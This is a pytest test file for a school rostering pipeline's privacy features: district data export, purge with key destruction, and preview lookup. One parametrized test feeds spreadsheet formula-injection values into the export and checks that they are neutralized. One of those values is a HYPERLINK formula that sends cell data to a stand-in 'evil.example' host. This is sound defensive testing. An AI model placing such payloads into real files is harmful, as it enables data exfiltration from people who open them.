from __future__ import annotations

import base64
import csv
import json
import os
import shutil
import time
import uuid
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import dagster as dg
import orjson
import pandas as pd
import pytest
import sqlalchemy as sa

from rostering_pipeline import config, privacy
from rostering_pipeline import districts as registry
from rostering_pipeline.appdb import tables
from rostering_pipeline.appdb.engine import make_engine, upgrade
from rostering_pipeline.errors import BadInput, DistrictPurged
from rostering_pipeline.secrets import SecretBox, new_key_entry, parse_keys
from rostering_pipeline.snapshot_keys import SnapshotKey, snapshot_key
from rostering_pipeline.snapshots import SnapshotKeyError, SnapshotStore

NOW = datetime(2024, 9, 1, 2, 0, tzinfo=UTC)
KEYS = new_key_entry("k1")
ORGS = dg.DynamicPartitionsDefinition(name="district")


def client_secret(key: str) -> str:
    return f"client-secret-of-{key}-Zq9"


def webhook_secret(key: str) -> str:
    return f"webhook-secret-of-{key}-Xk4"


# --- a populated district: app DB rows, snapshots, Dagster runs ----------------------------------


@dataclass(frozen=True)
class Seeded:
    key: str
    district_id: int
    rows: dict[str, int]  # table -> rows inserted
    snapshot_runs: list[str]
    dagster_runs: list[str]


@pytest.fixture
def env(app_db_url, data_dir, tmp_path, monkeypatch) -> Path:
    """App DB at head (SQLite or PostgreSQL), a key, and a Dagster home of this test's own."""
    monkeypatch.setenv("ROSTERING_DATABASE_URL", app_db_url)
    monkeypatch.setenv("ROSTERING_SECRET_KEYS", KEYS)
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "dagster_home"))
    (tmp_path / "dagster_home").mkdir()
    (tmp_path / "dagster_home" / "dagster.yaml").write_text("telemetry:\n  enabled: false\n")
    upgrade()
    return data_dir


@pytest.fixture
def engine(env):
    engine = make_engine()
    yield engine
    engine.dispose()


@pytest.fixture
def instance(env):
    with dg.DagsterInstance.get() as instance:
        yield instance


@pytest.fixture
def store(env) -> SnapshotStore:
    return SnapshotStore(config.snapshot_url())


def _common(district_id: int, sourced_id: str, active: bool) -> dict:
    return {
        "district_id": district_id,
        "sourced_id": sourced_id,
        "active": active,
        "first_seen_at": NOW - timedelta(days=30),
        "updated_at": NOW,
        "deactivated_at": None if active else NOW,
        "source_modified_at": NOW - timedelta(days=1),
        "row_hash": f"hash-{sourced_id}",
    }


def _roster_rows(district_id: int, key: str) -> dict[sa.Table, list[dict]]:
    """Two active rows and one deactivated row per roster table, with the district's own ids."""
    rows: dict[sa.Table, list[dict]] = {}
    for table, extra in (
        (tables.schools, {"name": f"{key} High", "identifier": "H1", "org_type": "school"}),
        (tables.academic_sessions, {"title": "2024", "session_type": "schoolYear"}),
        (tables.courses, {"title": "Algebra", "grades": '["09"]'}),
        (tables.classes, {"title": "Algebra 1", "periods": '["1"]', "term_sourced_ids": "[]"}),
        (
            tables.users,
            {"role": "student", "given_name": "Ada", "email": f"ada@{key}.example.org"},
        ),
        (tables.enrollments, {"role": "student", "is_primary": False, "begin_date": date.today()}),
    ):
        rows[table] = [
            _common(district_id, f"{key}-{table.name}-{n}", active=n < 2) | extra for n in range(3)
        ]
    link = {k: v for k, v in _common(district_id, "", True).items() if k != "sourced_id"}
    rows[tables.user_schools] = [
        link | {"user_sourced_id": f"{key}-users-{n}", "school_sourced_id": f"{key}-schools-0"}
        for n in range(2)
    ]
    return rows


def _audit_rows(district_id: int, key: str) -> dict[sa.Table, list[dict]]:
    report = {
        "schools": [{"sourced_id": f"{key}-schools-0", "name": f"{key} High", "identifier": "H1"}],
        "teachers": [],
        "students_by_school_and_grade": {f"{key}-schools-0": {"09": 2}},
        "changes": {"users": {"inserted": 2}},
    }
    run = {"district_id": district_id, "started_at": NOW, "finished_at": NOW}
    counts = '{"users": {"inserted": 2}}'
    return {
        tables.sync_runs: [
            run | {"mode": "full", "status": "succeeded", "counts": counts, "preview": None},
            run
            | {
                "mode": "preview",
                "status": "preview",
                "counts": counts,
                "preview": orjson.dumps(report).decode(),
            },
        ],
        tables.sync_requests: [
            {"district_id": district_id, "received_at": NOW, "signature": f"sha256={key}"}
        ],
        tables.snapshot_verdicts: [
            {
                "district_id": district_id,
                "dagster_run_id": f"run-of-{key}",
                "entity": "users",
                "snapshot_location": f"/snapshots/{key}/run-of-{key}/users.parquet",
                "mode": "full",
                "passed": True,
                "quarantined_count": 1,
                "quarantined_ids": f'["{key}-users-2"]',
                "recorded_at": NOW,
            }
        ],
        tables.provider_profiles: [
            {
                "district_id": district_id,
                "entity": "users",
                "profile": '{"envelope": "users", "timestamp_style": "offset"}',
                "updated_at": NOW,
            }
        ],
    }


@dg.asset(partitions_def=ORGS, check_specs=[dg.AssetCheckSpec("valid", asset="roster_part")])
def roster_part(context):
    print(f"pulled {context.partition_key}")  # captured into the compute logs
    yield dg.MaterializeResult(metadata={"rows": 3})
    yield dg.AssetCheckResult(passed=True, metadata={"quarantined": context.partition_key})


@dg.asset
def unpartitioned_roster_step() -> None:
    """A run that carries the district only as the `district` tag."""


def seed(
    engine, store: SnapshotStore, key: str, instance: dg.DagsterInstance | None = None
) -> Seeded:
    """App DB rows and snapshots of district `key`; with an instance, two Dagster runs of it."""
    box = SecretBox.from_env()
    district = registry.add_district(
        engine,
        key=key,
        name=f"{key.title()} ISD",
        base_url=f"https://{key}.example.org/ims/oneroster/v1p1",
        client_id=f"{key}-client",
        token_url=f"https://{key}.example.org/oauth/token",
        client_secret=client_secret(key),
        webhook_secret=webhook_secret(key),
        box=box,
    )
    by_table = _roster_rows(district.id, key) | _audit_rows(district.id, key)
    with engine.begin() as conn:
        for table, rows in by_table.items():
            conn.execute(table.insert(), rows)
    snapshot_runs = [f"run-{key}-{n}" for n in range(2)]
    frame = pd.DataFrame({"sourced_id": [f"{key}-users-0"], "email": [f"ada@{key}.example.org"]})
    for n, run_id in enumerate(snapshot_runs):
        stamp = time.time() - 100 + n  # distinct: runs are ordered by modification time
        location = store.write(snapshot_key(engine, key, box), run_id, "users", frame)
        os.utime(location, (stamp, stamp))
    rows = {table.name: len(rows) for table, rows in by_table.items()}
    return Seeded(key, district.id, rows, snapshot_runs, _runs(instance, key) if instance else [])


def _runs(instance: dg.DagsterInstance, key: str) -> list[str]:
    instance.add_dynamic_partitions("district", [key])
    partitioned = dg.materialize([roster_part], instance=instance, partition_key=key)
    tagged = dg.materialize([unpartitioned_roster_step], instance=instance, tags={"district": key})
    assert partitioned.success and tagged.success
    return [partitioned.run_id, tagged.run_id]


@pytest.fixture
def north(engine, store) -> Seeded:
    return seed(engine, store, "north")


def district_rows(engine, district_id: int) -> dict[str, int]:
    with engine.connect() as conn:
        return {
            table.name: conn.execute(
                sa.select(sa.func.count()).where(table.c.district_id == district_id)
            ).scalar_one()
            for table in privacy.DISTRICT_TABLES
        }


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def secret_forms(key: str) -> list[str]:
    forms = []
    for secret in (client_secret(key), webhook_secret(key)):
        forms += [secret, base64.b64encode(secret.encode()).decode()]
    return forms


# --- export ------------------------------------------------------------------------------------


def test_export_writes_every_row_of_the_district_and_nothing_secret(engine, store, tmp_path):
    north, _ = (seed(engine, store, key) for key in ("north", "south"))
    out = tmp_path / "export" / "north"
    counts = privacy.export_district(engine, "north", out, chunk_rows=2)  # several chunks a table

    assert counts == {"districts": 1} | north.rows
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["format_version"] == privacy.EXPORT_FORMAT_VERSION
    assert manifest["district"] == "north"
    assert datetime.fromisoformat(manifest["exported_at"]).tzinfo is not None
    assert {name: entry["rows"] for name, entry in manifest["tables"].items()} == counts
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [f"{name}.csv" for name in privacy.EXPORT_TABLES] + ["manifest.json"]
    )
    for table in privacy.DISTRICT_TABLES:
        with (out / f"{table.name}.csv").open(newline="") as file:
            assert next(csv.reader(file)) == [column.name for column in table.c]
        rows = read_csv(out / f"{table.name}.csv")
        assert len(rows) == counts[table.name]
        assert {row["district_id"] for row in rows} == {str(north.district_id)}

    users = read_csv(out / "users.csv")
    assert [row["sourced_id"] for row in users] == [f"north-users-{n}" for n in range(3)]
    assert [row["active"] for row in users] == ["true", "true", "false"]  # inactive rows too
    assert users[2]["deactivated_at"] == NOW.isoformat()
    assert users[0]["deactivated_at"] == ""
    assert users[0]["email"] == "ada@north.example.org"
    (district,) = read_csv(out / "districts.csv")
    assert district["key"] == "north"
    assert not any("secret" in column for column in district)

    with engine.connect() as conn:
        ciphertexts = conn.execute(
            sa.select(
                tables.districts.c.client_secret_ciphertext,
                tables.districts.c.webhook_secret_ciphertext,
            )
        ).all()
    forbidden = [c for pair in ciphertexts for c in pair] + secret_forms("north")
    for path in out.iterdir():
        text = path.read_text()
        assert not [item for item in forbidden if item in text], path.name
        assert "south" not in text, path.name


def test_export_refuses_a_folder_in_use_and_an_unknown_district(engine, north, tmp_path):
    used = tmp_path / "used"
    used.mkdir()
    (used / "notes.txt").write_text("keep me")
    with pytest.raises(BadInput, match="not an empty folder"):
        privacy.export_district(engine, "north", used)
    assert [p.name for p in used.iterdir()] == ["notes.txt"]

    with pytest.raises(BadInput, match="unknown district 'nowhere'"):
        privacy.export_district(engine, "nowhere", tmp_path / "new")
    assert not (tmp_path / "new").exists()

    empty = tmp_path / "empty"
    empty.mkdir()
    assert privacy.export_district(engine, "north", empty)["users"] == 3


# --- purge -------------------------------------------------------------------------------------


def test_plan_lists_everything_and_changes_nothing(engine, store, instance):
    north = seed(engine, store, "north", instance)
    plan = privacy.plan_purge(engine, "north", store, instance)

    assert plan.rows == north.rows
    assert plan.snapshot_runs == north.snapshot_runs
    assert sorted(plan.dagster_runs) == sorted(north.dagster_runs)
    assert plan.unfinished_dagster_runs == []
    assert district_rows(engine, north.district_id) == north.rows
    assert registry.get_district(engine, "north").has_client_secret


def test_purge_removes_the_district_everywhere_and_keeps_the_other(engine, store, instance):
    north, south = (seed(engine, store, key, instance) for key in ("north", "south"))
    check_key = dg.AssetCheckKey(dg.AssetKey("roster_part"), "valid")
    compute_logs = Path(instance.root_directory) / "storage"
    assert (compute_logs / north.dagster_runs[0]).is_dir()

    result = privacy.purge_district(engine, "north", store, instance)

    assert not result.already_purged
    assert result.deleted == north.rows
    assert result.snapshot_runs == north.snapshot_runs
    assert sorted(result.dagster_runs) == sorted(north.dagster_runs)
    # the app DB: no row left but the purge record, no secret, status purged
    left = district_rows(engine, north.district_id)
    assert left == {name: 0 for name in left} | {"sync_runs": 1}
    with engine.connect() as conn:
        record = conn.execute(
            sa.select(tables.sync_runs).where(tables.sync_runs.c.district_id == north.district_id)
        ).one()
    assert (record.mode, record.status, record.error, record.dagster_run_id) == (
        "purge",
        "purge",
        None,
        None,
    )
    assert record.started_at <= record.finished_at
    assert orjson.loads(record.counts) == {
        "command": "purge",
        "deleted": north.rows,
        "destroyed": [
            "snapshot data key (wrapped by key k1)",
            "client secret (wrapped by key k1)",
            "webhook secret (wrapped by key k1)",
        ],
    }
    assert result.destroyed == orjson.loads(record.counts)["destroyed"]
    for column in ("held", "preview", "approved_max"):
        assert getattr(record, column) is None
    district = registry.get_district(engine, "north")
    assert district.status == "purged"
    assert not district.has_client_secret and not district.has_webhook_secret
    assert district.client_secret_key_id is None and district.webhook_secret_key_id is None
    assert district.data_key_key_id is None and not district.public_dict()["has_data_key"]
    # outside the app DB: snapshots, runs, their logs and check evaluations, the partition
    assert store.runs("north") == []
    assert privacy.district_dagster_runs(instance, "north") == []
    assert not instance.has_dynamic_partition("district", "north")
    assert not (compute_logs / north.dagster_runs[0]).exists()
    history = instance.event_log_storage.get_asset_check_execution_history(check_key, limit=10)
    assert [record.run_id for record in history] == [south.dagster_runs[0]]
    # the other district: untouched
    assert district_rows(engine, south.district_id) == south.rows
    assert store.runs("south") == south.snapshot_runs
    assert sorted(run.run_id for run in privacy.district_dagster_runs(instance, "south")) == sorted(
        south.dagster_runs
    )
    assert instance.has_dynamic_partition("district", "south")
    assert registry.get_district(engine, "south").has_client_secret


def test_after_a_purge_a_copy_of_a_snapshot_saved_beforehand_cannot_be_decrypted(
    engine, store, instance, tmp_path
):
    north = seed(engine, store, "north", instance)
    seed(engine, store, "south", instance)
    box = SecretBox.from_env()
    aside = tmp_path / "backup-of-users.parquet"  # a file backup, an object store's old version
    shutil.copy(store.location("north", north.snapshot_runs[-1], "users"), aside)
    assert len(store.read(str(aside), snapshot_key(engine, "north", box))) == 1  # readable so far

    privacy.purge_district(engine, "north", store, instance)

    with pytest.raises(DistrictPurged):
        snapshot_key(engine, "north", box)  # no data key comes back for a purged district
    remaining = [
        SnapshotKey(d.key, registry.data_key(d, box))
        for d in registry.list_districts(engine)
        if d.data_key_ciphertext is not None
    ]
    assert [key.district for key in remaining] == ["south"]
    # every data key left, and the master keys themselves, tried as north's
    remaining += [SnapshotKey("north", raw) for raw in parse_keys(KEYS).values()]
    for key in remaining:
        with pytest.raises(SnapshotKeyError):
            store.read(str(aside), key)


def test_a_second_purge_only_checks_again(engine, store, instance, north):
    privacy.purge_district(engine, "north", store, instance)
    again = privacy.purge_district(engine, "north", store, instance)

    assert again.already_purged
    assert not any(again.deleted.values())
    assert again.snapshot_runs == [] and again.dagster_runs == []
    with engine.connect() as conn:
        modes = conn.execute(
            sa.select(tables.sync_runs.c.mode).where(
                tables.sync_runs.c.district_id == north.district_id
            )
        ).scalars()
        assert list(modes) == ["purge"]  # one record: the second purge changed nothing


def test_purge_waits_for_an_unfinished_run(engine, store, instance, north):
    running = dg.DagsterRun(
        job_name="roster_sync",
        run_id=str(uuid.uuid4()),
        status=dg.DagsterRunStatus.STARTED,
        tags={"district": "north"},
    )
    instance.add_run(running)

    plan = privacy.plan_purge(engine, "north", store, instance)
    assert plan.unfinished_dagster_runs == [running.run_id]
    with pytest.raises(BadInput, match=f"unfinished Dagster runs \\({running.run_id}\\)"):
        privacy.purge_district(engine, "north", store, instance)
    assert district_rows(engine, north.district_id) == north.rows
    assert store.runs("north") == north.snapshot_runs


def test_purge_of_an_unknown_district_changes_nothing(engine, store, instance, north):
    with pytest.raises(BadInput, match="unknown district 'nowhere'"):
        privacy.purge_district(engine, "nowhere", store, instance)
    with pytest.raises(BadInput, match="unknown district 'nowhere'"):
        privacy.plan_purge(engine, "nowhere", store, instance)
    assert district_rows(engine, north.district_id) == north.rows


# --- preview -----------------------------------------------------------------------------------


def test_latest_preview_is_the_newest_stored_report(engine, north):
    with engine.begin() as conn:
        assert privacy.latest_preview(conn, "north").report["changes"] == {"users": {"inserted": 2}}
        newer = {"schools": [], "teachers": [], "students_by_school_and_grade": {}, "changes": {}}
        conn.execute(
            tables.sync_runs.insert(),
            [
                {
                    "district_id": north.district_id,
                    "mode": "preview",
                    "status": "preview",
                    "started_at": NOW + timedelta(hours=1),
                    "dagster_run_id": "newer",
                    "preview": orjson.dumps(newer).decode(),
                },
                {  # a failed preview run stores no report: it is skipped
                    "district_id": north.district_id,
                    "mode": "preview",
                    "status": "preview",
                    "started_at": NOW + timedelta(hours=2),
                    "dagster_run_id": "failed",
                    "preview": None,
                },
            ],
        )
        stored = privacy.latest_preview(conn, "north")
    assert (stored.report, stored.dagster_run_id) == (newer, "newer")
    assert stored.started_at == NOW + timedelta(hours=1)


def test_latest_preview_is_none_without_one(engine, store, instance, north):
    privacy.purge_district(engine, "north", store, instance)
    with engine.connect() as conn:
        assert privacy.latest_preview(conn, "north") is None
        with pytest.raises(BadInput, match="unknown district"):
            privacy.latest_preview(conn, "nowhere")


@pytest.mark.parametrize(
    "sent",
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTab",
     "\rCR"],
)  # fmt: skip
def test_the_export_for_people_neutralizes_formulas_and_the_app_db_keeps_them(
    engine, north, tmp_path, sent
):
    users = tables.users
    with engine.begin() as conn:
        conn.execute(
            users.update().where(users.c.sourced_id == "north-users-0").values(family_name=sent)
        )
    out = tmp_path / "export"
    privacy.export_district(engine, "north", out)
    exported = next(u for u in read_csv(out / "users.csv") if u["sourced_id"] == "north-users-0")
    assert exported["family_name"] == "'" + sent  # shown as text by a spreadsheet, never run
    assert exported["given_name"] == "Ada"  # ordinary text untouched
    manifest = json.loads((out / "manifest.json").read_text())
    assert "apostrophe" in manifest["formula_neutralization"]
    with engine.connect() as conn:
        stored = conn.execute(
            sa.select(users.c.family_name).where(users.c.sourced_id == "north-users-0")
        ).scalar_one()
    assert stored == sent
